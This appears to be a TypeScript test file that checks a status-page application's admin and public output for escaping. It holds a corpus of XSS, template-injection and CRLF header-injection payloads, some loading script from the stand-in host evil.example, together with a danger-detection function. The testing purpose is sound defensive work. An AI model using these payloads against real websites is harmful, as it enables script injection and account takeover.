// Text that wants to be more than text, in every field of every form, looked for in every output.
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { QUICK, startSite } from '../../servers/site.ts'
import { type Admin, becomeAdmin, createCaller, hiddenIn } from './caller.ts'
import { type House, openHouse } from './house.ts'

/** Ways to run a script: element × event × how it is dressed up, and what is not HTML at all. */
function corpus(): readonly string[] {
  const calls = ['alert(1)', 'alert`1`', '(alert)(1)', 'top["al"+"ert"](1)', 'import(`//evil.example`)']
  const elements = calls.flatMap((call) => [
    `<script>${call}</script>`,
    `<ScRiPt >${call}</sCrIpT>`,
    `<script src=//evil.example/x.js></script>`,
    `<img src=x onerror=${call}>`,
    `<img src=x onerror="${call}">`,
    `<IMG """><SCRIPT>${call}</SCRIPT>">`,
    `<svg onload=${call}>`,
    `<svg/onload=${call}//`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    `<body onload=${call}>`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<iframe src="javascript:${call}">`,
    `<object data="javascript:${call}">`,
    `<embed src="javascript:${call}">`,
    `<a href="javascript:${call}">x</a>`,
    `<a href="jav&#x09;ascript:${call}">x</a>`,
    `<form action="javascript:${call}"><button>x</button></form>`,
    `<button formaction="javascript:${call}">x</button>`,
    `<input autofocus onfocus=${call}>`,
    `<textarea autofocus onfocus=${call}></textarea>`,
    `<select autofocus onfocus=${call}></select>`,
    `<details open ontoggle=${call}>`,
    `<video><source onerror=${call}>`,
    `<audio src=x onerror=${call}>`,
    `<marquee onstart=${call}>`,
    `<style>@import "//evil.example/x.css";</style>`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<base href=//evil.example/>`,
    `<template><script>${call}</script></template>`,
    `</textarea><script>${call}</script>`,
    `</title><script>${call}</script>`,
    `</style><script>${call}</script>`,
    `"><script>${call}</script>`,
    `'><script>${call}</script>`,
    `" onmouseover="${call}`,
    `' onmouseover='${call}`,
    `" autofocus onfocus="${call}" x="`,
    `]]><script>${call}</script>`,
    `--><script>${call}</script><!--`,
    `<![CDATA[<script>${call}</script>]]>`,
    `<?xml version="1.0"?><script>${call}</script>`,
    `[x](javascript:${call})`,
    `[x](JaVaScRiPt:${call})`,
    `[x](data:text/html,<script>${call}</script>)`,
    `[x](vbscript:${call})`,
    `![x](javascript:${call})`,
    `![x"onerror="${call}](y)`,
    `<javascript:${call}>`,
    `[x]: javascript:${call}\n\n[x]`,
    `\`<script>${call}</script>\``,
    `    <script>${call}</script>`,
    `<%= ${call} %>`,
    `<%~ ${call} %>`,
    `<% ${call} %>`,
    `\${${call}}`,
    `{{constructor.constructor('${call}')()}}`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `&#60;script&#62;${call}&#60;/script&#62;`,
    `\u003cscript\u003e${call}\u003c/script\u003e`,
    `＜script＞${call}＜/script＞`,
    `<scr\u0000ipt>${call}</scr\u0000ipt>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<<script>${call}//<</script>`,
    `<script\n>${call}</script\n>`,
    `<img src="x\`<script>${call}</script>"\`>`,
    `<a style="background:url(javascript:${call})">x</a>`,
    `<x contenteditable onblur=${call}>x</x>`,
    `<img src=\u00a0onerror=${call}>`,
    `<img/src/onerror=${call}>`,
    `<img\u000bsrc=x\u000conerror=${call}>`,
    `<a id=x tabindex=1 onactivate=${call}></a>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  ])
  const lines = [
    'x\r\nSet-Cookie: evil=1',
    'x\nLocation: //evil.example',
    'x\r\n\r\n<script>alert(1)</script>',
    'x%0d%0aSet-Cookie: evil=1',
    'x\u2028y',
    '\u202egnp.exe',
  ]
  return [...new Set([...elements, ...lines])]
}

let house: House
let ana: Admin
beforeAll(async () => {
  house = await openHouse()
  ana = await becomeAdmin(house, 'ana')
})
afterAll(() => house.close())

const OURS = new Set(
  'a abbr article b bdi br button caption code dd details div dl dt fieldset footer form h1 h2 h3 header input label legend li link main meta nav ol option p section select span summary svg path use symbol defs pattern table tbody td textarea th thead time title tr ul html head body style script strong em blockquote hr pre del s img g rect circle'.split(
    ' ',
  ),
)

/** What a browser would make of it that no page of ours has: elements, handlers, addresses that run. */
function dangers(html: string): readonly string[] {
  const found: string[] = []
  const visible = html.replace(/<!DOCTYPE html>/i, '').replace(/<(style|script)[^>]*>[^<]*<\/\1>/g, '')
  for (const [tag, name] of visible.matchAll(/<\/?([a-z!?%][^\s/>]*)(?:"[^"]*"|'[^']*'|[^>"'])*>/gi)) {
    if (!OURS.has(name!.toLowerCase())) found.push(tag)
    if (name!.toLowerCase() === 'script' && !/src="[^"]*vigie\.js"/.test(tag)) found.push(tag)
    const bare = tag.replace(/="[^"]*"/g, '=""')
    if (/\son\w+\s*=/i.test(bare) || /\ssrcdoc\s*=|\sformaction\s*=/i.test(bare)) found.push(tag)
    if (/(?:href|src|action)="\s*(?:javascript|vbscript|data:text)/i.test(tag)) found.push(tag)
  }
  if (/<script(?![^>]*src=)/i.test(html.replace(/<script[^>]*src="[^"]*"[^>]*>/g, '')))
    found.push('a script of its own')
  return found
}

it('knows danger when it sees it', () => {
  for (const html of [
    '<script>alert(1)</script>',
    '<p onclick="x">',
    '<iframe>',
    '<a href="javascript:x">y</a>',
    '<img src=x onerror=alert(1)>',
  ])
    expect([html, dangers(html).length]).not.toEqual([html, 0])
  expect(dangers('<p class="x">a &lt;script&gt; b</p>')).toEqual([])
})

async function pages(): Promise<readonly (readonly [string, string])[]> {
  const ids = house.board.incidents().map(({ id }) => `/admin/incidents/${id}`)
  const plans = house.board.maintenances().map(({ id }) => `/admin/maintenance/${id}`)
  const paths = [
    '/admin/',
    '/admin/incidents/',
    '/admin/maintenance/',
    '/admin/checks/',
    '/admin/mail/',
    '/admin/accounts/',
    '/admin/journal/',
    ...ids,
    ...plans,
  ]
  return Promise.all(paths.map(async (path) => [path, (await ana.get(path)).body] as const))
}

describe(`each of ${corpus().length} hostile texts`, () => {
  it('is at least one of 300', () => {
    expect(corpus().length).toBeGreaterThanOrEqual(300)
  })

  it('stays text in everything that was published', async () => {
    const { form } = await formOf('/admin/incidents/new')
    for (const text of corpus()) {
      const title = text.replace(/[\r\n]+/g, ' ').slice(0, 190)
      const opened = await ana.post('/admin/incidents/new', {
        form,
        'title.fr': title,
        'text.fr': text,
        services: 'web',
      })
      expect([text, opened.status]).toEqual([text, 303])
      expect(opened.headers.get('set-cookie')).toBeNull()
      expect(opened.to).toMatch(/^\/admin\/incidents\/[a-z0-9]{12}\?done=published$/)
    }
    for (const text of corpus().filter((_, at) => at % 10 === 0)) {
      const answer = await ana.post('/admin/maintenance/new', {
        form,
        'title.en': text,
        'text.en': text,
        services: 'web',
        begins: '2031-01-07T22:00',
        ends: '2031-01-07T23:00',
      })
      expect([text, answer.status]).toEqual([text, 303])
    }
    const found = (await pages()).flatMap(([path, html]) => dangers(html).map((what) => `${path}: ${what}`))
    expect(found).toEqual([])
  }, 120_000)

  it('stays text where a form comes back with a mistake, and in what is asked for', async () => {
    const { form } = await formOf('/admin/incidents/new')
    const incident = `/admin/incidents/${house.board.incidents()[0]!.id}`
    const work = `/admin/maintenance/${house.board.maintenances()[0]!.id}`
    const found: string[] = []
    for (const text of corpus().filter((_, at) => at % 3 === 0)) {
      const answers = [
        await ana.post('/admin/incidents/new', {
          form,
          'title.fr': text,
          'text.en': text,
          started: text,
          services: text,
          status: text,
          impact: text,
          raises: text,
          draft: text,
        }),
        await ana.post('/admin/maintenance/new', {
          form,
          'title.fr': text,
          begins: text,
          ends: text,
          repeats: text,
          until: text,
        }),
        await ana.post(`${incident}/correct`, {
          form,
          'title.fr': text,
          started: text,
          services: text,
          impact: text,
          raises: text,
        }),
        await ana.post(`${incident}/reword`, { form, 'text.fr': text, update: text }),
        await ana.post(`${work}/prolong`, { form, ends: text, time: text }),
        await ana.get(
          `/admin/incidents/new?service=${encodeURIComponent(text)}&draft=${encodeURIComponent(text)}&template=${encodeURIComponent(text)}&done=${encodeURIComponent(text)}`,
        ),
        await ana.get(`/admin/incidents/${encodeURIComponent(text)}`),
        await ana.get(`/admin/checks/${encodeURIComponent(text)}`),
        await ana.get(`/admin/login?next=${encodeURIComponent(text)}`),
      ]
      for (const { body, status, headers } of answers) {
        expect([text, status < 500]).toEqual([text, true])
        expect(headers.get('set-cookie')).toBeNull()
        expect(headers.get('location') ?? '/admin/').toMatch(/^\/admin\//)
        found.push(...dangers(body))
      }
    }
    expect(found).toEqual([])
  }, 120_000)

  it('stays text on the way in, and in names of accounts and keys', async () => {
    const stranger = createCaller(house.url)
    for (const text of corpus().filter((_, at) => at % 60 === 0)) {
      const answer = await stranger.submit('/admin/login', '/admin/login', {
        name: text,
        password: text,
        code: text,
        next: text,
      })
      expect(dangers(answer.body)).toEqual([])
      expect([401, 429]).toContain(answer.status)
    }
    expect(() => house.access.invite('<script>', 'ana')).toThrow(RangeError)
    expect(() => house.access.createToken('x\r\ny', ['incidents'], 'ana')).toThrow(RangeError)
  }, 120_000)
})

describe('what the world reads', () => {
  it('is text, well-formed, and on its own lines', async () => {
    const site = await startSite({
      'site.yaml': `name: Essai\nlanguages: [fr, en]\nsites: { home: {} }\n${QUICK}\n`,
      'web.yaml': 'service: { fr: Site web, en: Website }\nchecks:\n  - heartbeat: 24h\n',
    })
    try {
      const { token } = JSON.parse(readFileSync(join(site.data, 'run.json'), 'utf8')) as { token: string }
      const ids: string[] = []
      for (const [at, text] of corpus().entries()) {
        const clean = text.replace(/[\p{Cc}\u2028\u2029]/gu, ' ').trim()
        const work = at % 10 === 0
        const times = work ? { begins: '2031-01-07T22:00Z', ends: '2031-01-07T23:00Z' } : {}
        const answer = await fetch(`${site.url}/admin/api/v1/${work ? 'maintenances' : 'incidents'}`, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({
            title: { fr: clean.slice(0, 190) },
            text: { en: clean },
            services: ['web'],
            ...times,
          }),
        })
        expect([text, answer.status]).toEqual([text, 201])
        const { id } = (await answer.json()) as { id: string }
        if (!work) ids.push(id)
      }
      const get = async (path: string) => (await fetch(site.url + path)).text()
      await site.until('published', async () => (await get('/api/v2/incidents.json')).includes(ids.at(-1)!), 60_000)
      const places = ['', 'history/', 'maintenance/', 'services/web/', ...ids.map((id) => `incidents/${id}/`)]
      for (const path of places.flatMap((place) => [`/fr/${place}`, `/en/${place}`]))
        expect([path, dangers(await get(path))]).toEqual([path, []])
      for (const path of [
        '/feed.atom',
        '/fr/feed.atom',
        '/history.atom',
        '/history.rss',
        '/fr/services/web/feed.atom',
      ]) {
        const parser = new SaxesParser()
        const faults: string[] = []
        parser.on('error', (error) => faults.push(error.message))
        parser.write(await get(path)).close()
        expect([path, faults]).toEqual([path, []])
      }
      for (const path of ['/api/v2/summary.json', '/api/v2/incidents.json', '/api/vigie/status.json', '/outage.json'])
        expect(JSON.parse(await get(path))).toBeTypeOf('object')
      const lines = (await get('/calendar.ics')).split('\r\n')
      expect(lines.filter((line) => line !== '' && !/^(?:[A-Z-]+[;:]| )/.test(line))).toEqual([])
    } finally {
      await site.stop()
    }
  }, 240_000)
})

it('no template prints what it was given as it is', () => {
  const raw = readdirSync('views/admin').flatMap((name) =>
    [...readFileSync(join('views/admin', name), 'utf8').matchAll(/<%~(.*?)%>/g)].map(([, what]) => what!.trim()),
  )
  expect(raw.filter((what) => what !== 'it.body' && !what.startsWith('include('))).toEqual([])
})

async function formOf(path: string): Promise<{ form: string }> {
  return hiddenIn((await ana.get(path)).body, path) as { form: string }
}
